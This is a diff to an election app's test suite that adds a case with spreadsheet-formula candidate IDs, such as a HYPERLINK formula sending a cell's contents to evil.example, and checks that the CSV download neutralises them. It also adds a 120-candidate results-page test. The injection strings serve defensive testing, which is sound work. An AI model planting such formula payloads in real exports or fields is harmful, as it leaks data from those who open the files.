@@ -44,6 +44,32 @@ const steering = makeElection({
   candidates: IDS.map((id) => makeCandidate(id, `${id[0]!.toUpperCase()}${id.slice(1)} Example`)),
 });
 
+// Candidate IDs come from file names (`candidate-<ID>.md`), which anyone opening a pull
+// request chooses: these would be formulas in a spreadsheet if written as they are.
+const HOSTILE_IDS = ['=HYPERLINK("https://evil.example/?"&A1,"Vote")', '+cmd', '-2+3', '@SUM(1)', "'=quoted", 'plain'];
+const hostile = makeElection({
+  key: 'hostile',
+  name: 'Hostile names',
+  startDatetime: new Date('2023-08-01T00:00:00Z'),
+  endDatetime: new Date('2023-08-20T00:00:00Z'),
+  voters: ['voter0', 'voter1', 'voter2'],
+  officers: ['kalkayan'],
+  candidates: HOSTILE_IDS.map((id) => makeCandidate(id, `Candidate ${id}`)),
+});
+
+// More candidates than the results page shows tables for, and few ballots, so the
+// ranking is one large tie whose explanation is longer than the page shows.
+const WIDE_IDS = Array.from({ length: 120 }, (_, i) => `c${String(i).padStart(3, '0')}`);
+const wide = makeElection({
+  key: 'wide',
+  name: 'Many candidates',
+  startDatetime: new Date('2023-08-01T00:00:00Z'),
+  endDatetime: new Date('2023-08-20T00:00:00Z'),
+  voters: ['voter0', 'voter1', 'voter2'],
+  officers: ['kalkayan'],
+  candidates: WIDE_IDS.map((id) => makeCandidate(id)),
+});
+
 /** A small deterministic generator, so a failure can be replayed. */
 function generator(seed: number): (n: number) => number {
   let s = seed;
@@ -78,6 +104,8 @@ for (const kind of dialects()) {
       const sample = await loadSnapshot({ root: meta.path, electionDir: 'elections' });
       const entries = new Map<string, ElectionEntry>(sample.entries);
       entries.set('steering', entryOf(steering));
+      entries.set('hostile', entryOf(hostile));
+      entries.set('wide', entryOf(wide));
       t = await startTestApp({ kind, now: SAMPLE_DURING, snapshot: { ...sample, entries } });
     });
     after(async () => {
@@ -194,6 +222,43 @@ for (const kind of dialects()) {
       for (const tie of web.ties) assert.ok(page.includes(`Tie for seat${tie.firstSeat === tie.lastSeat ? ` ${tie.firstSeat}` : `s ${tie.firstSeat} to ${tie.lastSeat}`}:`));
       const placed = [...page.matchAll(/<th scope="row">([^<]+)<\/th>\s*<td><code>([a-z]+)<\/code>/g)].map((m) => m[2]);
       assert.deepEqual(placed, web.ranking.flat());
+    });
+
+    test('candidate IDs that look like formulas: the download neutralises them and scrutin tally reads back the same IDs and count', async () => {
+      t.setNow(new Date('2023-08-05T00:00:00Z'));
+      const ranks = (order: number[]) => Object.fromEntries(HOSTILE_IDS.map((id, i) => [id, String(order[i])]));
+      await cast('voter0', 'hostile', ranks([1, 2, 3, 4, 5, 6]));
+      await cast('voter1', 'hostile', ranks([2, 1, 3, 5, 4, 6]));
+      await cast('voter2', 'hostile', ranks([1, 3, 2, 4, 6, 5]));
+      t.setNow(new Date('2023-08-20T00:00:01Z'));
+      const { cli, web, csv } = await roundTrip('hostile', 1);
+      // No cell of the file starts as a formula would: = + - @ (after the optional quote).
+      const header = csv.split('\r\n')[0]!;
+      for (const m of header.matchAll(/(?:^|,)("?)([^,]*)/g)) assert.doesNotMatch(m[2]!, /^[=+\-@\t\r]/, header);
+      assert.ok(header.includes('"\'=HYPERLINK(""https://evil.example/?""&A1,""Vote"")"'), header);
+      assert.deepEqual(cli.candidates.map((c) => c.id), [...HOSTILE_IDS].sort());
+      sameCount(cli, web);
+      assert.deepEqual(web.winners, ['=HYPERLINK("https://evil.example/?"&A1,"Vote")']);
+    });
+
+    test('120 candidates: counted in a worker, the page leaves the tables and most reasons to the JSON, which equals scrutin tally of the download', async () => {
+      t.setNow(new Date('2023-08-05T00:00:00Z'));
+      const random = generator(7);
+      // Each ballot ranks about one candidate in five: most pairs are never compared.
+      for (const login of ['voter0', 'voter1', 'voter2']) await cast(login, 'wide', Object.fromEntries(WIDE_IDS.map((id) => [id, random(5) === 0 ? String(1 + random(10)) : ''])));
+      t.setNow(new Date('2023-08-20T00:00:01Z'));
+      const { cli, web, page } = await roundTrip('wide', 1);
+      // The whole JSON, explanations included, but for the display names the CLI cannot
+      // know and the method the CLI names (it counts several).
+      const { method, ...counted } = cli as ResultJson & { method?: string };
+      assert.equal(method, 'schulze');
+      assert.deepEqual({ ...counted, candidates: [] }, { ...web, candidates: [] });
+      const full = web as ResultJson & { explanation: { adjacent: unknown[] } };
+      assert.ok(full.explanation.adjacent.length > 1000, `a long explanation (${full.explanation.adjacent.length})`);
+      assert.match(page, /With 120 candidates the pairwise table \(120 × 120\) is too large for a page/);
+      assert.doesNotMatch(page, /<table class="matrix"/);
+      assert.equal((page.match(/<li><strong>/g) ?? []).length, 1000 + web.winners.length);
+      assert.ok(page.includes(`… and ${full.explanation.adjacent.length - 1000} more, in the results JSON`), 'the page says how many reasons it left out');
     });
   });
 }
